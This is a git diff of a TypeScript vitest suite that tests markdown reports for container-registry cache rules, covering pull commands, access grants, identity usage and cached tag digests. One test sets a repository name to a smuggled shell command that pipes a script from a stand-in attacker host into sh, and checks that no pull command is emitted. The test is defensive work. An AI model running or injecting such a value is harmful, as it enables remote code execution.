@@ -1,7 +1,13 @@
 import { describe, expect, it } from 'vitest';
+import { escapeMarkdown } from '../../../../src/common/markdown.ts';
 import { cacheRuleArmId } from '../../../../src/domain/armId.ts';
 import { roles } from '../../../../src/domain/roles.ts';
-import { readRuleReport, type RuleReport } from '../../../../src/provisioning/ruleReport/readRuleReport.ts';
+import {
+  keepEarlier,
+  readRuleReport,
+  type RuleReport,
+  unreadReport,
+} from '../../../../src/provisioning/ruleReport/readRuleReport.ts';
 import { ruleReportMarkdown } from '../../../../src/provisioning/ruleReport/ruleReportMarkdown.ts';
 import { mapping } from '../links.ts';
 import { inOneWorld } from '../savedState.ts';
@@ -20,6 +26,9 @@ inOneWorld(async () => {
 const read = (ruleId = id, options: Parameters<typeof readRuleReport>[2] = {}): Promise<RuleReport> =>
   readRuleReport(world.as('dev'), ruleId, options);
 
+const shown = (report: RuleReport, client: 'docker' | 'podman' = 'docker'): string =>
+  ruleReportMarkdown(report, { client, time: (iso) => iso });
+
 function value<K extends 'mapping' | 'access' | 'identity' | 'cached' | 'json'>(
   report: RuleReport,
   name: K,
@@ -36,9 +45,7 @@ describe('the report of a rule', () => {
     expect(seen).toHaveLength(6);
     expect(seen[0]?.mapping.state).toBe('loading');
     expect(value(report, 'mapping')).toMatchObject({ rule: { name: 'MyRule' } });
-    expect(ruleReportMarkdown(report, 'podman')).toContain(
-      `podman pull ${world.link().downstream.loginServer}/myapp:<tag>`,
-    );
+    expect(shown(report, 'podman')).toContain(`podman pull ${world.link().downstream.loginServer}/myapp:<tag>`);
     const access = value(report, 'access');
     expect(access).toMatchObject({ sufficient: true });
     expect(access.grants).toMatchObject([
@@ -55,19 +62,19 @@ describe('the report of a rule', () => {
 
   it('does not say that nothing uses an identity of which it could not look', async () => {
     const report = await read();
-    const nothing = 'Nothing else that this account sees uses it';
-    expect(ruleReportMarkdown(report, 'docker')).toContain(nothing);
+    const nothing = 'Nothing else that you can see uses MyACRCacheIdentity';
+    expect(shown(report)).toContain(nothing);
     const { usage, ...rest } = value(report, 'identity');
     expect(usage).toBeDefined();
     const unread: RuleReport = { ...report, identity: { state: 'ready', value: rest } };
-    expect(ruleReportMarkdown(unread, 'docker')).not.toContain(nothing);
+    expect(shown(unread)).not.toContain(nothing);
   });
 
   it('has no pull command for a target that is no repository name', async () => {
     const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
     if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
     const report = await read();
-    expect(ruleReportMarkdown(report, 'docker')).not.toContain('docker pull');
+    expect(shown(report)).not.toContain('docker pull');
   });
 
   it('says that the identity may not read, was made anew, and who else uses it', async () => {
@@ -78,7 +85,7 @@ describe('the report of a rule', () => {
     const report = await read();
     expect(value(report, 'access')).toMatchObject({ sufficient: false });
     expect(value(report, 'identity')).toMatchObject({ recreated: true, usage: { rules: [{ name: 'SecondRule' }] } });
-    expect(ruleReportMarkdown(report, 'docker')).toContain('SecondRule');
+    expect(shown(report)).toContain('SecondRule');
   });
 
   it('shows cached tags with platforms, and which are stale or gone upstream', async () => {
@@ -105,7 +112,14 @@ describe('the report of a rule', () => {
     const states = Object.fromEntries(repository?.tags.map((tag) => [tag.tag, tag.upstreamState]) ?? []);
     expect(states).toEqual({ '1.0': 'stale', '1.1': 'same', latest: 'gone' });
     expect(repository?.tags.every(({ platforms }) => platforms.length > 0)).toBe(true);
-    expect(ruleReportMarkdown(report, 'docker')).toMatch(/stale: the upstream has another image/);
+    const rows = shown(report)
+      .split('\n')
+      .filter((line) => line.startsWith('| `'));
+    expect(rows).toHaveLength(3);
+    // Digests are short, and whole below.
+    const whole = repository?.tags.map(({ digest }) => digest) ?? [];
+    expect(rows.filter((row) => whole.some((digest) => row.includes(digest)))).toEqual([]);
+    for (const digest of whole) expect(shown(report)).toContain(`\`${digest}\``);
   });
 
   it('says why the upstream digests are not known when the account may not read there', async () => {
@@ -133,13 +147,30 @@ describe('the report of a rule', () => {
     );
     expect(failed).toContain(name === 'json' ? failed[0] : name);
     expect(failed.length).toBeLessThan(5);
-    expect(ruleReportMarkdown(report, 'docker')).toMatch(/Could not be read: .*Not for you/);
+    expect(shown(report).match(/Not for you/g)).toHaveLength(1);
   });
 
   it('of a rule that does not exist fails in every part', async () => {
     const report = await read(cacheRuleArmId(world.link().downstream.id, 'NoSuchRule'));
     const { mapping, access, identity, cached, json } = report;
     expect([mapping, access, identity, cached, json].map(({ state }) => state)).toEqual(Array(5).fill('failed'));
+    // For all of it one line.
+    expect(shown(report).match(/⚠ Could not be read now/g)).toHaveLength(1);
+  });
+
+  it('keeps what was read earlier of what is not read yet, and of what cannot be read now', async () => {
+    const before = await read();
+    const { sentence } = value(before, 'access');
+    expect(shown(keepEarlier(unreadReport(id), before))).toContain(escapeMarkdown(sentence));
+    const refused = await world.withFaults(
+      [{ match: '/cacheRules/MyRule', status: 403, message: 'Not for you.' }],
+      () => read(),
+    );
+    const kept = shown(keepEarlier(refused, before));
+    expect(kept.match(/Not for you/g)).toHaveLength(1);
+    expect(kept).toContain(escapeMarkdown(sentence));
+    expect(shown(refused)).not.toContain(escapeMarkdown(sentence));
+    expect(keepEarlier(await read(), before)).not.toHaveProperty('cached.earlier');
   });
 
   it('is left by a cancel', async () => {
